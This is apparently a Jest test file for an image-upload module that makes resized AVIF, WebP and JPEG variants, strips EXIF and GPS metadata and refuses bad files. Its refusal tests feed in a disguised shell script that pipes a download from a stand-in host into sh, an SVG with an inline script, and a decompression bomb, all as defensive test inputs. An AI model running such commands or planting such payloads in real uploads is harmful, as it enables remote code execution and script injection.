import sharp from 'sharp';
import { photoSources } from 'contracts/api';
import { noisyJpeg, solid } from '../../test/photos';
import { inspectUpload, makeVariants, PhotoRefused, variantWidths } from './variants';

/**
 * The processing module with images made by sharp itself: real sizes, content-based types,
 * metadata stripped (GPS included), EXIF orientation applied, bombs and disguised files refused.
 */

async function refusal(data: Buffer): Promise<PhotoRefused> {
  try {
    await makeVariants(data);
  } catch (err) {
    if (err instanceof PhotoRefused) return err;
    throw err;
  }
  throw new Error('not refused');
}

describe('variantWidths', () => {
  it('keeps the widths narrower than the photo and tops them off with its own width, never upscaling', () => {
    expect(variantWidths(4000)).toEqual([320, 640, 960, 1280, 1920]);
    expect(variantWidths(1920)).toEqual([320, 640, 960, 1280, 1920]);
    expect(variantWidths(1000)).toEqual([320, 640, 960, 1000]);
    expect(variantWidths(320)).toEqual([320]);
  });
});

describe('makeVariants', () => {
  it('makes AVIF, WebP and JPEG at every width with their real sizes', async () => {
    const result = await makeVariants(await noisyJpeg(2400, 1600));
    expect(result).toMatchObject({ width: 2400, height: 1600 });
    expect(result.sizes).toEqual([
      { width: 320, height: 213 },
      { width: 640, height: 427 },
      { width: 960, height: 640 },
      { width: 1280, height: 853 },
      { width: 1920, height: 1280 },
    ]);
    expect(result.variants).toHaveLength(15);
    const formats = { avif: 'heif', webp: 'webp', jpg: 'jpeg' } as const;
    for (const v of result.variants) {
      const meta = await sharp(v.data).metadata();
      expect({ format: meta.format, width: meta.width, height: meta.height }).toEqual({
        format: formats[v.ext],
        width: v.width,
        height: v.height,
      });
      if (v.ext === 'avif') expect(meta.compression).toBe('av1');
    }
    // Smaller widths are smaller files, and AVIF beats JPEG.
    const size = (w: number, ext: string) =>
      result.variants.find((v) => v.width === w && v.ext === ext)?.data.length ?? 0;
    expect(size(320, 'jpg')).toBeLessThan(size(1920, 'jpg'));
    expect(size(1920, 'avif')).toBeLessThan(size(1920, 'jpg'));
  });

  it('never upscales: a 1000 px photo gets 320, 640, 960 and 1000', async () => {
    const result = await makeVariants(await solid(1000, 750).png().toBuffer());
    expect(result.sizes).toEqual([
      { width: 320, height: 240 },
      { width: 640, height: 480 },
      { width: 960, height: 720 },
      { width: 1000, height: 750 },
    ]);
  });

  it('strips every piece of metadata: no EXIF, no GPS position, no camera, no ICC profile', async () => {
    const tagged = await noisyJpeg(800, 600, (s) =>
      s.withExif({
        IFD0: { Make: 'SecretCam', Model: 'Model X1', Artist: 'Asha' },
        IFD3: {
          GPSLatitudeRef: 'N',
          GPSLatitude: '28/1 32/1 3600/100',
          GPSLongitudeRef: 'E',
          GPSLongitude: '77/1 23/1 0/1',
        },
      }),
    );
    const input = await sharp(tagged).metadata();
    expect(input.exif?.includes('SecretCam')).toBe(true); // the test image does carry them
    expect(input.exif?.includes('GPS') || input.exif?.length).toBeTruthy();

    const { variants } = await makeVariants(tagged);
    for (const v of variants) {
      const meta = await sharp(v.data).metadata();
      expect(meta.exif).toBeUndefined();
      expect(meta.xmp).toBeUndefined();
      expect(meta.icc).toBeUndefined();
      expect(meta.orientation).toBeUndefined();
      expect(v.data.includes('SecretCam')).toBe(false);
      expect(v.data.includes('Exif')).toBe(false);
    }
  });

  it('turns the photo upright by its EXIF orientation', async () => {
    // 600 x 400, left half red, right half blue; orientation 6 means "turn 90° clockwise to view".
    const left = await solid(300, 400, '#ff0000').png().toBuffer();
    const sideways = await solid(600, 400, '#0000ff')
      .composite([{ input: left, left: 0, top: 0 }])
      .jpeg()
      .withMetadata({ orientation: 6 })
      .toBuffer();
    expect((await sharp(sideways).metadata()).orientation).toBe(6);
    const result = await makeVariants(sideways);
    expect(result).toMatchObject({ width: 400, height: 600 });
    expect(result.sizes).toEqual([
      { width: 320, height: 480 },
      { width: 400, height: 600 },
    ]);
    const jpeg = result.variants.find((v) => v.ext === 'jpg' && v.width === 400);
    const { data, info } = await sharp(jpeg?.data).raw().toBuffer({ resolveWithObject: true });
    const pixel = (x: number, y: number) =>
      Array.from(data.subarray((y * info.width + x) * 3, (y * info.width + x) * 3 + 3));
    // Turned clockwise, the left (red) half is on top.
    expect(pixel(200, 50)[0]).toBeGreaterThan(200);
    expect(pixel(200, 550)[2]).toBeGreaterThan(200);
  });

  it('puts a transparent PNG on white for JPEG and keeps its transparency in WebP', async () => {
    const { variants } = await makeVariants(await solid(400, 300, '#ff000000', 4).png().toBuffer());
    const jpeg = variants.find((v) => v.ext === 'jpg');
    const webp = variants.find((v) => v.ext === 'webp');
    const stats = await sharp(jpeg?.data).stats();
    expect(stats.channels.map((c) => Math.round(c.mean))).toEqual([255, 255, 255]);
    expect((await sharp(webp?.data).metadata()).hasAlpha).toBe(true);
  });

  it('accepts WebP and AVIF uploads', async () => {
    for (const data of [await solid(640, 480).webp().toBuffer(), await solid(640, 480).avif().toBuffer()])
      expect((await makeVariants(data)).sizes.at(-1)).toEqual({ width: 640, height: 480 });
  });
});

describe('refusals', () => {
  it('refuses a script named .jpg: the type is read from the content', async () => {
    const err = await refusal(Buffer.from('#!/bin/sh\ncurl http://example.invalid | sh\n'));
    expect(err.statusCode).toBe(400);
    expect(err.message).toMatch(/not an image this site accepts \(JPEG, PNG, WebP, AVIF or HEIF\)/);
  });

  it('refuses SVG (scripts inside) and GIF', async () => {
    const svg = Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg" width="800" height="600"><script>alert(1)</script><rect width="800" height="600"/></svg>',
    );
    expect((await refusal(svg)).message).toMatch(/^SVG files are not accepted/);
    expect((await refusal(await solid(640, 480).gif().toBuffer())).message).toMatch(/^GIF files are not accepted/);
    expect((await refusal(await solid(640, 480).tiff().toBuffer())).message).toMatch(/^TIFF files are not accepted/);
  });

  it('refuses a decompression bomb before decoding it: a tiny PNG declaring 10000 x 10000 pixels', async () => {
    const bomb = await solid(10000, 10000, '#ffffff').png({ compressionLevel: 9 }).toBuffer();
    expect(bomb.length).toBeLessThan(1024 * 1024);
    const err = await refusal(bomb);
    expect(err.statusCode).toBe(413);
    expect(err.message).toBe('The image is larger than 40 megapixels.');
  });

  it('refuses files over the byte limit, empty files, cut-short files and images too small', async () => {
    const photo = await noisyJpeg(800, 600);
    await expect(inspectUpload(photo, { maxBytes: 1000 })).rejects.toMatchObject({ statusCode: 413 });
    expect((await refusal(Buffer.alloc(0))).message).toBe('The file is empty.');
    expect((await refusal(photo.subarray(0, Math.floor(photo.length / 2)))).message).toMatch(/could not be read/);
    expect((await refusal(await solid(300, 300).png().toBuffer())).message).toMatch(/at least 320 x 200/);
  });
});

describe('photoSources', () => {
  it('gives one srcset per format and a JPEG src near 960 px', () => {
    const variants = [
      { width: 320, height: 213 },
      { width: 640, height: 427 },
      { width: 960, height: 640 },
      { width: 1280, height: 853 },
    ];
    const s = photoSources({ id: 'AbCdEfGhIjKlMn_-', variants });
    expect(s).toEqual({
      src: '/api/images/photos/AbCdEfGhIjKlMn_-/960.jpg',
      srcSet: {
        avif: [320, 640, 960, 1280].map((w) => `/api/images/photos/AbCdEfGhIjKlMn_-/${w}.avif ${w}w`).join(', '),
        webp: [320, 640, 960, 1280].map((w) => `/api/images/photos/AbCdEfGhIjKlMn_-/${w}.webp ${w}w`).join(', '),
        jpeg: [320, 640, 960, 1280].map((w) => `/api/images/photos/AbCdEfGhIjKlMn_-/${w}.jpg ${w}w`).join(', '),
      },
      width: 960,
      height: 640,
    });
    expect(photoSources({ id: 'x', variants: [{ width: 1500, height: 1000 }] }).src).toBe(
      '/api/images/photos/x/1500.jpg',
    );
  });
});
